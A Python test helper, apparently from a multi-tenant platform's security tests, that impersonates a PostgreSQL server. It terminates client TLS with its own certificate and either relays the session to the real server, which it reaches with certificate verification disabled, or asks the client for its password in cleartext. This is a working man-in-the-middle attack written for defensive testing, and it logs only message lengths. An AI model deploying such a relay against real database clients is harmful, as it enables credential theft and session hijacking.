"""A relay that impersonates a PostgreSQL server (the attack of issue 18), for the real-engine tests.

Run in a container of another tenant that claims the server's alias on the victim's network:
`python pg_relay.py --upstream IP:PORT --cert C --key K --mode relay|cleartext`. It answers the
client's SSLRequest, ends the client's TLS with its OWN certificate, and then
  relay      opens TLS to the real server and passes every byte both ways (the attacker sees,
             and could change, the whole session: it runs SQL as the victim);
  cleartext  asks the client for its password in clear (AuthenticationCleartextPassword).
Each event is one JSON line on stdout (the container's log): `tls` (the client finished the
handshake with our certificate), `password` (a PasswordMessage arrived; its length only, never
the value), `auth` (SASL messages), `query` (a Query/Parse message passed), `upstream_ok`.
"""

from __future__ import annotations

import argparse
import json
import socket
import ssl
import struct
import sys
import threading

SSL_REQUEST = struct.pack("!ii", 8, 80877103)


def event(kind: str, **data) -> None:
    print(json.dumps({"event": kind, **data}), flush=True)


def read_exact(sock, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def read_startup(sock) -> bytes:
    (length,) = struct.unpack("!i", read_exact(sock, 4))
    return struct.pack("!i", length) + read_exact(sock, length - 4)


def read_message(sock) -> tuple[bytes, bytes]:
    head = read_exact(sock, 5)
    (length,) = struct.unpack("!i", head[1:])
    return head[:1], read_exact(sock, length - 4)


def upstream_tls(address: tuple[str, int]):
    raw = socket.create_connection(address, timeout=10)
    raw.sendall(SSL_REQUEST)
    if read_exact(raw, 1) != b"S":
        raise ConnectionError("upstream refused TLS")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(raw)


def watch_client_to_server(client, server) -> None:
    """Pass the client's messages on, noting the kinds that matter."""
    try:
        while True:
            kind, body = read_message(client)
            if kind == b"p":
                event("auth", length=len(body))
            elif kind in (b"Q", b"P"):
                event("query")
            server.sendall(kind + struct.pack("!i", len(body) + 4) + body)
    except (ConnectionError, OSError, ssl.SSLError):
        pass
    finally:
        for s in (client, server):
            try:
                s.close()
            except OSError:
                pass


def pump(src, dst) -> None:
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            dst.sendall(data)
    except (OSError, ssl.SSLError):
        pass
    finally:  # the server hung up: so does the client's side
        for s in (src, dst):
            try:
                s.close()
            except OSError:
                pass


def handle(conn, ctx, args) -> None:
    try:
        first = read_startup(conn)
        if first != SSL_REQUEST:
            event("plaintext_startup")
            return
        conn.sendall(b"S")
        try:
            tls = ctx.wrap_socket(conn, server_side=True)
        except (ssl.SSLError, OSError) as exc:
            event("tls_refused", reason=str(exc)[:200])
            return
        event("tls")
        startup = read_startup(tls)
        if args.mode == "cleartext":
            tls.sendall(b"R" + struct.pack("!ii", 8, 3))
            kind, body = read_message(tls)
            if kind == b"p":
                event("password", length=len(body.rstrip(b"\0")))
            return
        server = upstream_tls((args.upstream_host, args.upstream_port))
        event("upstream_ok")
        server.sendall(startup)
        threading.Thread(target=pump, args=(server, tls), daemon=True).start()
        watch_client_to_server(tls, server)
    except (ConnectionError, OSError, ssl.SSLError) as exc:
        event("closed", reason=str(exc)[:200])


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--upstream", required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--mode", choices=("relay", "cleartext"), default="relay")
    p.add_argument("--port", type=int, default=5432)
    args = p.parse_args()
    args.upstream_host, _, port = args.upstream.rpartition(":")
    args.upstream_port = int(port)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(args.cert, args.key)
    listener = socket.create_server(("0.0.0.0", args.port), reuse_port=False)
    event("listening", port=args.port)
    while True:
        conn, _ = listener.accept()
        threading.Thread(target=handle, args=(conn, ctx, args), daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
